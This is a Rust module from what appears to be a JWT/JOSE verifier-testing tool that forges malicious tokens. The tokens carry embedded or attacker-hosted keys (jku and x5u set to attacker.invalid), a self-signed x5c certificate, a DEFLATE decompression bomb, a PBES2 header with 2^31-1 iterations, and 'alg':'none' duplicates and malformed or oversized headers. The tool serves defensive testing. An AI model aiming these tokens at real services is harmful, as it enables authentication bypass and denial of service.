//! Keys smuggled in by the header, and headers that are hard to read (HDR).

use doorward_jose::{
    algorithm::Algorithm,
    base64url, dangerous,
    json::{Object, Value},
    signing_key::SigningKey,
};
use serde_json::json;

use super::{Workshop, text};
use crate::der;

pub(super) fn forge(workshop: &mut Workshop<'_>) {
    own_keys(workshop);
    own_certificate(workshop);
    other_meanings(workshop);
    not_an_object(workshop);
    duplicates(workshop);
    oversized(workshop);
}

/// Never resolves (RFC 2606 section 2): whoever follows it is seen to try.
const OWN_ADDRESS: &str = "https://attacker.invalid/keys";

fn own_keys(workshop: &mut Workshop<'_>) {
    let mut algorithms = vec![Algorithm::Es256, Algorithm::EdDsa];
    // An RSA key is slow to make, and worth it only where RSA is understood.
    let is_rsa = |alg: &Algorithm| alg.name().starts_with("RS") || alg.name().starts_with("PS");
    algorithms.extend(workshop.algorithm().filter(is_rsa));
    for key in algorithms
        .into_iter()
        .filter_map(|algorithm| SigningKey::generate(algorithm).ok())
    {
        let Some(jwk) = key.verifying_key().to_jwk() else {
            continue;
        };
        let algorithm = key.algorithm();
        for (what, kid) in [
            ("genuine kid", workshop.header.get("kid").cloned()),
            ("own kid", None),
        ] {
            let kid = kid.unwrap_or_else(|| key.key_id().into());
            let mut jwk = jwk.to_object();
            jwk.insert("kid".to_owned(), kid.clone());
            let mut header = workshop.header_with("jwk", Value::Object(jwk));
            header.insert("kid".to_owned(), kid.clone());
            if let Some(token) = workshop.signed(&key, header) {
                workshop.add("HDR-001", format!("{algorithm} key in jwk, {what}"), token);
            }
            let mut header = workshop.header_with("jku", OWN_ADDRESS);
            header.insert("kid".to_owned(), kid);
            if let Some(token) = workshop.signed(&key, header) {
                workshop.add(
                    "HDR-002",
                    format!("{algorithm} key set at jku, {what}"),
                    token,
                );
            }
        }
    }
}

fn own_certificate(workshop: &mut Workshop<'_>) {
    let Ok(key) = SigningKey::generate(Algorithm::Es256) else {
        return;
    };
    let address = workshop.header_with("x5u", OWN_ADDRESS);
    if let Some(token) = workshop.signed(&key, address) {
        workshop.add("HDR-004", "own certificate at x5u", token);
    }
    let Some(certificate) = certificate(&key) else {
        return;
    };
    let chain = workshop.header_with("x5c", json!([der::base64(&certificate)]));
    if let Some(token) = workshop.signed(&key, chain) {
        workshop.add("HDR-004", "own certificate in x5c", token);
    }
}

/// A self-signed certificate for the key (RFC 5280 section 4.1), valid from
/// 2000 to 2049.
fn certificate(key: &SigningKey) -> Option<Vec<u8>> {
    let ecdsa_with_sha256 = der::sequence(&[b"\x06\x08\x2a\x86\x48\xce\x3d\x04\x03\x02"]);
    let common_name = der::sequence(&[b"\x06\x03\x55\x04\x03", b"\x0c\x08attacker"]);
    let name = der::sequence(&[&der::element(0x31, &common_name)]);
    let validity = der::sequence(&[b"\x17\x0d000101000000Z", b"\x17\x0d491231235959Z"]);
    let tbs = der::sequence(&[
        &der::element(0xa0, &der::integer(&[2])),
        &der::integer(&[1]),
        &ecdsa_with_sha256,
        &name,
        &validity,
        &name,
        &key.verifying_key().to_der()?,
    ]);
    let signature = der::ecdsa_signature(&dangerous::sign(key, &tbs).ok()?);
    Some(der::sequence(&[
        &tbs,
        &ecdsa_with_sha256,
        &der::bit_string(&signature),
    ]))
}

fn other_meanings(workshop: &mut Workshop<'_>) {
    let zipped = workshop.with_header(text(workshop.header_with("zip", "DEF")));
    workshop.add("HDR-014", "zip DEF over the genuine payload", zipped);
    let header = base64url::encode(text(workshop.header_with("zip", "DEF")));
    let token = format!(
        "{header}.{}.{}",
        base64url::encode(bomb()),
        workshop.signature_part
    );
    workshop.add(
        "HDR-014",
        "zip DEF over a payload that inflates to 258,001 bytes",
        token,
    );

    let mut pbes2 = workshop.header_with("alg", "PBES2-HS256+A128KW");
    pbes2.insert("enc".to_owned(), "A128GCM".into());
    pbes2.insert("p2c".to_owned(), 2_147_483_647_u32.into());
    pbes2.insert("p2s".to_owned(), base64url::encode([0x5a; 16]).into());
    let header = base64url::encode(text(pbes2));
    let (key, nonce) = (base64url::encode([0; 24]), base64url::encode([0; 12]));
    let payload = workshop.payload_part;
    let five = format!(
        "{header}.{key}.{nonce}.{payload}.{}",
        base64url::encode([0; 16])
    );
    workshop.add("HDR-015", "2^31 - 1 iterations, five parts", five);
    let three = format!("{header}.{payload}.{}", workshop.signature_part);
    workshop.add("HDR-015", "2^31 - 1 iterations, three parts", three);
}

/// Raw DEFLATE (RFC 1951) of 258,001 zero bytes in 1,628: one block with fixed
/// codes, a zero, then a thousand runs of 258 at distance one.
fn bomb() -> Vec<u8> {
    // Last block, fixed codes; literal 0; then `run` = length 258, distance 1.
    let mut bits = vec![1, 1, 0, 0, 0, 1, 1, 0, 0, 0, 0];
    let run = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0];
    bits.extend(run.into_iter().cycle().take(run.len() * 1000));
    bits.extend([0; 7]);
    let byte = |bits: &[u8]| bits.iter().rev().fold(0, |byte, bit| byte << 1 | bit);
    bits.chunks(8).map(byte).collect()
}

fn not_an_object(workshop: &mut Workshop<'_>) {
    for header in [
        "[]",
        r#"["alg","none"]"#,
        r#""header""#,
        "1",
        "null",
        "true",
        "",
        " ",
        "{",
    ] {
        let token = workshop.with_header(header);
        workshop.add("HDR-020", format!("header {header:?}"), token);
    }
}

fn duplicates(workshop: &mut Workshop<'_>) {
    let genuine = text(workshop.header.clone());
    let (start, end) = (&genuine[1..], &genuine[..genuine.len() - 1]);
    for (what, header) in [
        (
            "alg none, then genuine",
            format!(r#"{{"alg":"none",{start}"#),
        ),
        ("alg genuine, then none", format!(r#"{end},"alg":"none"}}"#)),
        (
            "alg with an escaped name",
            format!(r#"{end},"\u0061lg":"none"}}"#),
        ),
        (
            "alg HS256, then genuine",
            format!(r#"{{"alg":"HS256",{start}"#),
        ),
        ("kid twice", format!(r#"{{"kid":"a","kid":"b",{start}"#)),
        (
            "kid with an escaped name",
            format!(r#"{{"\u006bid":"a",{start}"#),
        ),
    ] {
        let token = workshop.with_header(header);
        workshop.add("HDR-021", what, token);
    }
}

fn oversized(workshop: &mut Workshop<'_>) {
    let long = text(workshop.header_with("x", "a".repeat(100_000)));
    let mut many: Object = (0..10_000)
        .map(|index| (format!("m{index}"), index.into()))
        .collect();
    many.append(&mut workshop.header.clone());
    let genuine = text(workshop.header.clone());
    let end = &genuine[..genuine.len() - 1];
    let deep = format!(r#"{end},"x":{}{}}}"#, "[".repeat(1000), "]".repeat(1000));
    for (what, header) in [
        ("100,000 bytes", long),
        ("10,000 members", text(many)),
        ("1,000 levels", deep),
    ] {
        let token = workshop.with_header(header);
        workshop.add("HDR-022", what, token);
    }
}

#[cfg(test)]
mod tests {
    use super::bomb;

    #[test]
    fn the_bomb_is_small() {
        assert_eq!(bomb().len(), 1_628);
        assert_eq!(bomb()[..4], [0x63, 0x18, 0x05, 0xa3]);
    }
}
